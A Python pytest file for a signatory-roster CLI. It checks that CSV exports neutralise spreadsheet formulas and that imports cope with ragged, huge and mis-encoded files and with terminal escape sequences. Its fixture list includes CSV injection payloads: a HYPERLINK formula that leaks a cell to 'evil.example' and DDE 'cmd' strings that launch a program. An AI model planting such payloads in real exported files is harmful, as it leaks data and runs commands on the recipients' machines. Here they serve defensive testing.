"""CSV from the outside world: formula injection in exports, huge and ragged files, mixed
encodings — a correct import or a clear, located error, never a traceback."""

from __future__ import annotations

import csv
import io
import json
import re
import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from undersigned.textsafety import FORMULA_START, from_spreadsheet, spreadsheet_safe

from .conftest import SLUG, letter_yaml, roster_yaml, signatory_yaml, write_workspace
from .conftest import run_cli as run

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 tab first",
    "\r=1+1 carriage return first",
    "  =1+1 spaces first",
    "\uff1d1+1 full-width equals",
]


def roster_bytes(root) -> bytes:
    return (root / "signatories" / f"{SLUG}.yaml").read_bytes()


# --- formula injection ---------------------------------------------------------------------------

def test_sign_list_csv_neutralises_formulas(hostile_root):
    entries = [signatory_yaml(f"{formula} {n}", title=formula, country=formula)
               for n, formula in enumerate(FORMULAS)]
    write_workspace(hostile_root, letter_yaml(), roster_yaml(entries))
    result = run("sign", "list", SLUG, "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for column, cell in row.items():
            assert not cell.lstrip(" ").startswith(FORMULA_START), (column, cell)
    names = sorted(row["name"] for row in rows)
    assert names == sorted("'" + f"{f} {n}" for n, f in enumerate(FORMULAS))
    # JSON is for programs: the values stay exactly as they are
    records = json.loads(run("sign", "list", SLUG, "--format", "json").stdout)
    assert sorted(r["name"] for r in records) == sorted(f"{f} {n}"
                                                        for n, f in enumerate(FORMULAS))


def test_an_exported_list_imports_back_to_the_same_names(hostile_root):
    names = ["=Equals Org", "+Plus Org", "-Minus Org", "@At Org", "Plain Org"]
    write_workspace(hostile_root, letter_yaml(), roster_yaml([signatory_yaml(n)
                                                              for n in names]))
    exported = run("sign", "list", SLUG, "--format", "csv").stdout
    (hostile_root / "export.csv").write_text(exported, encoding="utf-8")
    write_workspace(hostile_root, letter_yaml(), roster_yaml([signatory_yaml("Zeta Trust")]))
    result = run("sign", "import", SLUG, "export.csv")
    assert result.exit_code == 0, result.output
    records = json.loads(run("sign", "list", SLUG, "--format", "json").stdout)
    assert sorted(r["name"] for r in records) == sorted([*names, "Zeta Trust"])


@pytest.mark.parametrize("cell", [*FORMULAS, "plain", "", "'quoted", "a=b", "1-2"])
def test_spreadsheet_safe_round_trips(cell):
    safe = spreadsheet_safe(cell)
    assert not safe.lstrip(" ").startswith(FORMULA_START)
    assert from_spreadsheet(safe) == cell


# --- huge and ragged files -----------------------------------------------------------------------

@pytest.mark.slow
def test_a_100000_row_import_is_bounded_and_gives_a_valid_roster(hostile_root):
    write_workspace(hostile_root, letter_yaml(), roster_yaml([signatory_yaml("Amnesty")]))
    syllables = ["ka", "lo", "mi", "ne", "so", "ta", "ri", "vu", "pe", "da", "gi", "zo"]

    def word(n: int, length: int = 5) -> str:
        out = ""
        for _ in range(length):
            n, r = divmod(n, len(syllables))
            out += syllables[r]
        return out.title()

    with (hostile_root / "big.csv").open("w", encoding="utf-8") as f:
        f.write("Name,Organisation,Country,Timestamp\n")
        for n in range(100_000):
            f.write(f"{word(n * 7919 % 20736, 4)} {word(n)},,FR,2023-09-{1 + n % 20:02d}\n")
    start = time.monotonic()
    result = run("sign", "import", SLUG, "big.csv")
    assert result.exit_code == 0, result.output[:300]
    assert time.monotonic() - start < 90  # generous: CI machines are slow, but not hung
    new, present, suspected, invalid = map(int, re.findall(r"(\d+) ", result.output)[:4])
    assert invalid == 0 and new + present + suspected == 100_000 and new > 50_000
    result = run("validate", "--format", "json")
    assert result.exit_code == 0
    problems = json.loads(result.stdout)["problems"]
    assert [p for p in problems if p["rule"] != "roster-near-duplicate"] == []
    assert roster_bytes(hostile_root).count(b"\n  - name: ") == 1 + new


RAGGED = {
    "short row": ("Name,Organisation,Email\nAlice\n", 2, "cut short"),
    "long row": ("Name,Organisation\nBob, Jr.,Org,extra\n", 2, "shifted"),
    "unterminated quote": ('Name\n"Carol' + "x" * 200_000 + "\n", 2, "field larger"),
    "no name column": ("Colour,Size\nred,XL\n", None, "no column holds the signatory's name"),
    "empty": ("", None, "the file is empty"),
    "only a BOM": ("\ufeff", None, "the file is empty"),
}


@pytest.mark.parametrize("case", list(RAGGED))
def test_ragged_files_are_refused_with_the_line_and_nothing_written(hostile_root, case):
    text, line, words = RAGGED[case]
    write_workspace(hostile_root, letter_yaml(), roster_yaml([signatory_yaml("Amnesty")]))
    before = roster_bytes(hostile_root)
    (hostile_root / "in.csv").write_text(text, encoding="utf-8")
    result = run("sign", "import", SLUG, "in.csv")
    assert result.exit_code == 1, result.output
    assert words in result.output
    if line is not None:
        assert f"in.csv:{line}" in result.output
    assert roster_bytes(hostile_root) == before


def test_trailing_empty_cells_and_blank_lines_are_fine(hostile_root):
    write_workspace(hostile_root, letter_yaml(), roster_yaml([signatory_yaml("Amnesty")]))
    (hostile_root / "in.csv").write_text("Name,Organisation\n\nAlice Doe,Org,,,\n\n,\n",
                                         encoding="utf-8")
    result = run("sign", "import", SLUG, "in.csv")
    assert result.exit_code == 0, result.output
    assert "1 new (added)" in result.output


# --- encodings ------------------------------------------------------------------------------------

NAMES = "Name,Organisation\nJosé Müller,Société Générale\n"


@pytest.mark.parametrize(("encoding", "data"), [
    ("UTF-8", NAMES.encode("utf-8")),
    ("UTF-8 with BOM", b"\xef\xbb\xbf" + NAMES.encode("utf-8")),
    ("UTF-16 LE (Excel's Unicode text)",
     b"\xff\xfe" + NAMES.replace(",", "\t").encode("utf-16-le")),
    ("UTF-16 BE", b"\xfe\xff" + NAMES.encode("utf-16-be")),
    ("CRLF line ends", NAMES.replace("\n", "\r\n").encode("utf-8")),
])
def test_encodings_that_import_correctly(hostile_root, encoding, data):
    write_workspace(hostile_root, letter_yaml(), roster_yaml([signatory_yaml("Amnesty")]))
    (hostile_root / "in.csv").write_bytes(data)
    result = run("sign", "import", SLUG, "in.csv")
    assert result.exit_code == 0, (encoding, result.output)
    records = json.loads(run("sign", "list", SLUG, "--format", "json").stdout)
    person = next(r for r in records if r["name"] == "José Müller")
    assert person["title"] == "Société Générale"


@pytest.mark.parametrize(("encoding", "data", "words"), [
    ("cp1252 (Excel's plain CSV)", NAMES.encode("cp1252"), "in.csv:2: byte 0xe9 is not UTF-8"),
    ("UTF-8 with one cp1252 line", NAMES.encode("utf-8") + "Zoë\n".encode("cp1252"),
     "in.csv:3: byte 0xeb is not UTF-8"),
    ("UTF-16 without a BOM", NAMES.encode("utf-16-le"), "UTF-16 without a byte-order mark"),
    ("UTF-16 cut short", b"\xff\xfe" + NAMES.encode("utf-16-le") + b"\x00",
     "marked as UTF-16"),
    ("UTF-16 with half a character", b"\xff\xfe" + "Name\nA".encode("utf-16-le")
     + b"\x00\xd8" + "\n".encode("utf-16-le"), "marked as UTF-16"),
    ("binary", bytes(range(256)) * 8, "in.csv"),
])
def test_encodings_that_are_refused_clearly(hostile_root, encoding, data, words):
    write_workspace(hostile_root, letter_yaml(), roster_yaml([signatory_yaml("Amnesty")]))
    before = roster_bytes(hostile_root)
    (hostile_root / "in.csv").write_bytes(data)
    result = run("sign", "import", SLUG, "in.csv")
    assert result.exit_code == 1, (encoding, result.output)
    assert words in result.output, (encoding, result.output)
    assert roster_bytes(hostile_root) == before


def test_an_import_report_never_sends_control_characters_to_the_terminal(hostile_root):
    write_workspace(hostile_root, letter_yaml(), roster_yaml([signatory_yaml("Amnesty")]))
    (hostile_root / "in.csv").write_text("Name\nEvil\x1b[2J\x1b]0;pwned\x07 Org\n",
                                         encoding="utf-8")
    result = run("sign", "import", SLUG, "in.csv", "--dry-run")
    assert "\x1b" not in result.output and "\x07" not in result.output
    assert "<U+001B>" in result.output


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow,
                                                                 HealthCheck.function_scoped_fixture])
@given(data=st.one_of(
    st.binary(max_size=300),
    st.text(st.sampled_from(list('Name,Org;\t"\r\n\'=+-@ aé\u202e\x00\x1b')), max_size=120)
    .map(lambda t: t.encode("utf-8")),
    st.text(max_size=60).map(lambda t: b"\xff\xfe" + t.encode("utf-16-le", "surrogatepass")),
))
def test_any_bytes_as_a_csv_never_crash(hostile_root, data):
    write_workspace(hostile_root, letter_yaml(), roster_yaml([signatory_yaml("Amnesty")]))
    (hostile_root / "in.csv").write_bytes(data)
    run("sign", "import", SLUG, "in.csv", "--dry-run")


def test_an_update_report_never_sends_control_characters_to_the_terminal(hostile_root):
    write_workspace(hostile_root, letter_yaml(), roster_yaml([signatory_yaml("Amnesty")]))
    (hostile_root / "in.csv").write_text("Name,Title\nAmnesty,Chief\x1b]0;pwned\x07 Officer\n",
                                         encoding="utf-8")
    dry = run("sign", "import", SLUG, "in.csv", "--update", "--dry-run")
    assert "\x1b" not in dry.output and "\x07" not in dry.output
    # and the title itself is refused at the door, as `sign add` refuses it
    before = roster_bytes(hostile_root)
    done = run("sign", "import", SLUG, "in.csv", "--update")
    assert done.exit_code == 1 and "control character" in done.output
    assert roster_bytes(hostile_root) == before


def test_erase_never_sends_control_characters_to_the_terminal(hostile_root):
    evil = "Evil\x1b[2J Org"
    write_workspace(hostile_root, letter_yaml(), roster_yaml([signatory_yaml(evil)]))
    (hostile_root / "signatories" / "other.yaml").write_text(
        roster_yaml([signatory_yaml(evil)]), encoding="utf-8")
    result = run("sign", "erase", SLUG, evil, "--yes")
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "<U+001B>" in result.output
    assert "Evil" not in roster_bytes(hostile_root).decode("utf-8")
